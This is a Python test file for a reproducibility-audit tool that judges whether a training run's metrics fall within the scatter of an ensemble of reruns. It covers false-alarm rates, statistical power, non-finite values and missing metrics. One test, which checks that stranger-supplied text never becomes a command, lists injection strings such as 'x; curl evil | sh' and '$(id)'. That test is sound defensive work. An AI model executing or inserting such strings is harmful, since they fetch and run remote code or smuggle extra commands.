"""A run is called another one as often as is promised, and never the same for want of power."""

from __future__ import annotations

import sys
from statistics import fmean

import numpy as np
import pytest
from manifests import record, rerun

from repro_audit.manifest import Manifest
from repro_audit.manifest.writing import serialize
from repro_audit.noise.ensemble import Ensemble, Member, ensemble_of
from repro_audit.noise.ladder import LEAST_RUNS, RUNGS, Rung, ladder, reached

TRIALS = 2_000
SCATTER = 0.002


def with_history(values: dict[str, list[float]]) -> Manifest:
    """Return a run that ends in other values, and has no evaluation."""
    base = record(rerun())
    fit = base.outcomes.fits[0]
    history = {name: tuple(numbers) for name, numbers in values.items()}
    outcomes = base.outcomes._replace(fits=(fit._replace(history=history),), evaluations=())
    return base._replace(outcomes=outcomes)


def ensemble(runs: list[dict[str, list[float]]], moved: str = "seed") -> Ensemble:
    """Return the ensemble of runs that end in these values, the first one ordinary."""
    first, *others = runs
    members = tuple(
        Member(
            name=f"{moved}-{number}",
            moved=moved,  # type: ignore[arg-type]
            seed=number,
            digest="sha256:" + "0" * 64,
            series={name: tuple(values) for name, values in other.items()},
            distance=None,
        )
        for number, other in enumerate(others, start=1)
    )
    return ensemble_of(serialize(with_history(first)), members)


def rung(actual: dict[str, list[float]], of: Ensemble, name: str = "seeds") -> Rung:
    """Return one rung of the ladder of a run."""
    return ladder(with_history(actual), of)[RUNGS.index(name)]  # type: ignore[arg-type]


def runs(*losses: float) -> list[dict[str, list[float]]]:
    return [{"loss": [value]} for value in losses]


NOISE = {
    "normal": lambda generator, shape: generator.normal(0.96, SCATTER, shape),
    "heavy tails": lambda generator, shape: 0.96 + SCATTER * generator.standard_t(3, shape),
    "skewed": lambda generator, shape: 0.96 - SCATTER * generator.exponential(1, shape),
    "counts": lambda generator, shape: generator.binomial(1000, 0.985, shape) / 1000,
}


def alarms(kind: str, number: int, metrics: int, shift: float = 0.0) -> float:
    """Return the share of runs that stand on no rung, of which each metric is a draw."""
    generator = np.random.default_rng(812)
    draws = NOISE[kind](generator, (TRIALS, metrics, number + 1))
    draws[:, 0, -1] += shift
    base = ensemble(runs(*range(number)))
    blank = with_history({"loss": [0.0]})
    fit = blank.outcomes.fits[0]
    broken = 0
    for trial in draws:
        members = tuple(
            item._replace(series={f"m{at}": (values[place],) for at, values in enumerate(trial)})
            for place, item in enumerate(base.members)
        )
        history = {f"m{at}": (float(values[-1]),) for at, values in enumerate(trial)}
        outcomes = blank.outcomes._replace(fits=(fit._replace(history=history),))
        judged = ladder(blank._replace(outcomes=outcomes), base._replace(members=members))[2]
        broken += judged.holds == "broken"
    return broken / TRIALS


@pytest.mark.parametrize("metrics", [1, 8])
@pytest.mark.parametrize("number", [3, 5, 10])
def test_one_honest_run_in_twenty_stands_on_no_rung_where_runs_are_normal(number, metrics):
    """However many metrics there are."""
    assert 0.04 <= alarms("normal", number, metrics) <= 0.06


MEASURED = {
    ("heavy tails", 5, 1): 0.075,
    ("heavy tails", 10, 8): 0.185,
    ("skewed", 5, 1): 0.0735,
    ("skewed", 10, 8): 0.2005,
    ("counts", 5, 1): 0.056,
    ("counts", 10, 8): 0.053,
}
"""Alarms at a level of 5 %, where runs are not normal; as the page on noise has them."""


@pytest.mark.parametrize(("kind", "number", "metrics"), MEASURED)
def test_where_runs_are_not_normal_the_alarms_are_those_that_are_stated(kind, number, metrics):
    stated = MEASURED[kind, number, metrics]
    assert alarms(kind, number, metrics) == pytest.approx(stated, abs=0.005)


@pytest.mark.parametrize(("number", "metrics"), [(5, 1), (10, 1), (10, 8)])
def test_a_difference_that_would_be_seen_four_times_in_five_is_seen_so_often(number, metrics):
    from repro_audit.noise.power import detectable
    from repro_audit.noise.scatter import LEVEL

    shift = detectable(SCATTER, number, LEVEL / metrics)
    assert alarms("normal", number, metrics, shift) == pytest.approx(0.8, abs=0.03)


def test_without_holm_eight_metrics_would_call_a_third_of_honest_runs_others():
    """The negative: each at 5 % by itself."""
    from repro_audit.noise.scatter import interval

    generator = np.random.default_rng(812)
    known, new = generator.normal(0, 1, (TRIALS, 8, 10)), generator.normal(0, 1, (TRIALS, 8))
    reach = interval(0.0, 1.0, 10).high * known.std(axis=2, ddof=1)
    assert np.mean((np.abs(new - known.mean(axis=2)) > reach).any(axis=1)) > 0.25


NEAR = runs(1.0, 1.001, 0.999, 1.002, 0.998, 1.0005)


def test_a_run_within_the_scatter_stands_on_the_rung():
    found = rung({"loss": [1.0012]}, ensemble(NEAR))
    assert (found.holds, found.runs) == ("holds", 6)


@pytest.mark.parametrize(("loss", "rank"), [(0.99, 1), (1.0012, 6), (1.0, 3), (1.01, 7)])
def test_the_rank_of_a_run_is_its_place_from_the_lowest(loss, rank):
    (value,) = rung({"loss": [loss]}, ensemble(NEAR)).values
    assert value.rank == rank


def test_a_run_outside_the_scatter_does_not_and_the_value_is_named():
    found = rung({"loss": [1.5]}, ensemble(NEAR))
    assert found.holds == "broken"
    assert found.text.startswith(
        "loss is 1.5, outside what 6 runs with other seeds let expect of one more: "
    )


def test_rungs_are_judged_by_their_own_ensembles():
    both = ensemble(NEAR)
    wide = ensemble(runs(1.0, 1.2, 0.8, 1.3, 0.7, 1.1), "rounding")
    joined = both._replace(members=(*both.members, *wide.members[1:]))
    found = ladder(with_history({"loss": [1.15]}), joined)
    assert [item.holds for item in found] == ["broken", "holds", "broken"]
    assert reached(found) == "rounding"


def test_without_an_ensemble_a_rung_is_not_measured_and_the_command_is_named():
    found = ladder(with_history({"loss": [1.0]}), None, "train.py --epochs 2")
    assert [item.holds for item in found] == ["broken", "not measured", "not measured"]
    assert found[1].text == "not measured: repro-audit repeat --perturb 6 train.py --epochs 2"
    assert found[2].text == "not measured: repro-audit repeat --spread 9 train.py --epochs 2"
    assert reached(found) is None


def test_of_too_few_runs_agreement_is_none_and_what_they_would_show_is_said():
    few = ensemble(NEAR[: LEAST_RUNS - 1])
    found = rung({"loss": [1.0012]}, few)
    assert found.holds == "cannot tell"
    assert "with 4 runs only differences of loss above" in found.text
    assert "more would bring it to" in found.text
    assert rung({"loss": [2.0]}, few).holds == "broken", "a difference is one all the same"


def test_where_all_runs_agree_another_value_is_neither_the_same_nor_another():
    """Of seven equal ones and an eighth, the odd one out is the last once in eight."""
    found = rung({"loss": [1.1]}, ensemble(runs(*[1.0] * 7)))
    assert found.holds == "cannot tell"
    assert found.text.endswith("the odd one out is the last once in 8")


def test_where_very_many_runs_agree_another_value_is_another():
    assert rung({"loss": [1.1]}, ensemble(runs(*[1.0] * 20))).holds == "broken"


def test_the_same_value_again_is_judged_once():
    """`evaluate` returns the last validation: counted twice it would take power from all others."""
    twice = [{"val_loss": item["loss"], "loss of test": item["loss"]} for item in NEAR]
    found = rung({"val_loss": [1.001], "loss of test": [1.001]}, ensemble(twice))
    assert [item.metric for item in found.values] == ["val_loss"]


@pytest.mark.parametrize("wrong", [float("nan"), float("inf"), float("-inf")])
def test_a_run_that_is_not_finite_is_another(wrong):
    assert rung({"loss": [wrong]}, ensemble(NEAR)).holds == "broken"


def test_what_an_ensemble_does_not_end_with_cannot_be_judged():
    lost = runs(*[float("nan")] * 6)
    assert rung({"loss": [1.0]}, ensemble(lost)).holds == "cannot tell"


def test_a_run_of_other_length_or_other_metrics_stands_on_no_rung():
    assert rung({"loss": [1.0, 0.9]}, ensemble(NEAR)).text == (
        "loss: 1 value in the ensemble, 2 in the run"
    )
    found = rung({"accuracy": [1.0]}, ensemble(NEAR))
    assert found.holds == "cannot tell"
    assert (
        found.text == "cannot tell: the run has no loss; --ignore-metric NAME leaves a metric out"
    )


def test_a_value_that_one_run_of_the_ensemble_lacks_is_not_left_out_in_silence():
    """However far away the run is there."""
    both = [{"loss": item["loss"], "mae": item["loss"]} for item in NEAR]
    whole = ensemble(both)
    for lost in ((), (None,), (float("nan"),), (1e200,)):
        damaged = whole.members[-1]._replace(series={"loss": (1.0005,), "mae": lost})
        found = rung(
            {"loss": [1.0012], "mae": [1e9]},
            whole._replace(members=(*whole.members[:-1], damaged)),
        )
        assert found.holds == "cannot tell"
        assert found.text == "cannot tell: not every run has a number for mae"


def test_a_run_that_has_no_number_where_the_first_one_has_is_another():
    missing = with_history({"loss": [0.0]})
    fit = missing.outcomes.fits[0]._replace(history={"loss": (None,)})
    lost = missing._replace(outcomes=missing.outcomes._replace(fits=(fit,)))
    assert ladder(lost, ensemble(NEAR))[2].text == "loss is no value, and 1 in the first run"


def test_equal_values_are_compared_by_their_bits():
    """Their mean may be another number than each of them."""
    odd = next(
        value for value in np.linspace(0, 1, 999)[1:].tolist() if fmean([value] * 7) != value
    )
    both = [{"loss": [odd], "mae": item["loss"]} for item in (*NEAR, NEAR[0])]
    assert rung({"loss": [odd], "mae": [1.0012]}, ensemble(both)).holds == "holds"
    near = float(np.nextafter(odd, 9))
    assert rung({"loss": [near], "mae": [1.0012]}, ensemble(both)).holds == "cannot tell"


def test_runs_that_show_no_noise_measure_none():
    """Though the run has other bits, and the same values."""
    found = rung({"loss": [1.0]}, ensemble(runs(*[1.0] * 7)))
    assert found.holds == "cannot tell"
    assert found.text.endswith("all 7 runs end in the same values, which so show no noise")


def test_a_metric_that_is_not_compared_decides_nothing():
    both = [{"loss": item["loss"], "seconds": item["loss"]} for item in NEAR]
    actual = with_history({"loss": [1.0012], "seconds": [77.0]})
    assert ladder(actual, ensemble(both))[2].holds == "broken"
    assert ladder(actual, ensemble(both), ignored=["seconds"])[2].holds == "holds"


@pytest.mark.parametrize("huge", [1.7e308, -1.7e308, 1e200])
def test_numbers_of_a_stranger_that_are_too_large_decide_nothing(huge):
    found = rung({"loss": [1.0]}, ensemble(runs(1.0, *[huge, -huge] * 3)))
    assert found.holds == "cannot tell"


@pytest.mark.parametrize("hostile", ["x; curl evil | sh", "a\nb", "'open", "$(id)"])
def test_words_of_a_stranger_become_no_command(hostile):
    strange = ensemble(NEAR)._replace(repeated=hostile)
    assert ladder(with_history({"loss": [1.0]}), strange)[1].text == (
        "not measured: repro-audit repeat --perturb 6 SCRIPT ARGS"
    )


def test_without_scipy_nothing_is_measured_and_nothing_is_lost(monkeypatch):
    monkeypatch.setitem(sys.modules, "scipy", None)
    found = rung({"loss": [1.0012]}, ensemble(NEAR))
    assert found.holds == "not measured"
    assert "repro-audit[noise]" in found.text


def test_the_odd_value_is_named_by_its_epoch():
    both = [{"loss": [item["loss"][0], 0.5]} for item in (*NEAR, NEAR[0])]
    found = rung({"loss": [1.0012, 0.75]}, ensemble(both))
    assert found.text.startswith("cannot tell: loss of epoch 2 is 0.75, and 0.5 in all 7 runs")
